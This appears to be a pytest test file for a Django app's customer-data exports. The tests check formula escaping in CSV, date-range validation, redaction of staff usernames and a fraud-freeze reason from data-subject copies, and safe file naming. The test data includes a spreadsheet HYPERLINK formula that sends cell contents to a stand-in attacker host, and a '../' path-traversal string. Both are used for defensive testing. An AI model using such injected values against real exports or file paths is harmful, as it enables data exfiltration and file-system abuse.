"""Exports against hostile input: a customer-supplied value that a spreadsheet would run
as a formula, and a date range whose end overflows datetime."""

import csv
import io
import json

import pytest
from django.urls import reverse

from profiledesk.customers.services import customer_freeze
from profiledesk.exports.models import Export, Format, Kind
from profiledesk.exports.services import export_request
from tests.audit.history_helpers import write
from tests.conftest import make_staff, signed_in

from .helpers import built

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


def _history(personas, customer, fmt):
    return built(
        export_request(
            by=personas["compliance"],
            kind=Kind.CUSTOMER_HISTORY,
            fmt=fmt,
            client=customer.client,
            customer=customer,
        )
    )


def test_a_formula_typed_by_a_customer_is_text_in_the_history_csv(customer, personas):
    write(customer.personal, by=personas["agent"], reason="NWE-000042 applied", legal_name=FORMULA)

    rows = list(csv.reader(io.StringIO(_history(personas, customer, Format.CSV).decode())))
    cells = [cell for row in rows[1:] for cell in row]

    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_history_json_keeps_the_value_exact(customer, personas):
    write(customer.personal, by=personas["agent"], reason="NWE-000042 applied", legal_name=FORMULA)

    document = json.loads(_history(personas, customer, Format.JSON))
    afters = [c["after"] for v in document["versions"] for c in v["changes"]]

    assert FORMULA in afters


def test_a_range_ending_on_the_last_day_of_year_9999_is_a_form_error(personas):
    response = signed_in(personas["compliance"]).post(
        reverse("exports:audit_events"),
        {"since": "9999-12-30", "until": "9999-12-31", "format": "csv"},
    )

    assert response.status_code == 400
    assert not Export.objects.exists()


def test_the_data_subjects_copy_names_no_staff_sign_in(customer, northwind):
    agent = make_staff("jdoe.floor7", "agent", northwind)
    officer = make_staff("asmith.audit3", "compliance", northwind)
    write(customer.personal, by=agent, reason="NWE-000042 applied", legal_name="G H")
    raw = built(
        export_request(
            by=officer, kind=Kind.DSAR, fmt=Format.JSON, client=northwind, customer=customer
        )
    ).decode()
    document = json.loads(raw)

    # A username is half of a staff sign-in (and ten wrong passwords lock the account).
    assert "jdoe.floor7" not in raw and "asmith.audit3" not in raw
    assert [v["staff"] for v in document["history"] if v["reference"]] == ["desk staff"]


def test_a_freezes_reason_stays_out_of_the_data_subjects_copy(customer, personas, northwind):
    note = "Caller failed KBA twice; suspected SIM swap"
    customer_freeze(customer=customer, by=personas["security"], reason=note)
    raw = built(
        export_request(
            by=personas["compliance"],
            kind=Kind.DSAR,
            fmt=Format.JSON,
            client=northwind,
            customer=customer,
        )
    ).decode()

    # Security's note on a suspicion, like a fraud flag (GDPR Art. 23); the date stays.
    assert "SIM swap" not in raw
    assert json.loads(raw)["profile"]["customer"]["frozen"]


def test_the_compliance_history_export_still_names_the_staff(customer, personas):
    write(customer.personal, by=personas["agent"], reason="NWE-000042 applied", legal_name="G H")

    document = json.loads(_history(personas, customer, Format.JSON))

    assert document["requested_by"] == personas["compliance"].username
    assert [v["staff"] for v in document["versions"] if v["reference"]] == ["agent"]


@pytest.mark.parametrize("number", ["../../../../tmp/x", "NWE/0042"])
def test_a_customer_number_with_path_characters_is_exported_flat(personas, customer, number):
    customer.number = number
    customer.save()
    export = export_request(
        by=personas["compliance"],
        kind=Kind.CUSTOMER_HISTORY,
        fmt=Format.CSV,
        client=customer.client,
        customer=customer,
    )

    built(export)  # asserts the build is done, not failed

    folder, name = export.file.name.rsplit("/", 1)
    assert folder.count("/") == 2  # exports/<year>/<month>, no folder of the number's
    assert name.startswith("northwind-customer_history-") and "/" not in export.filename
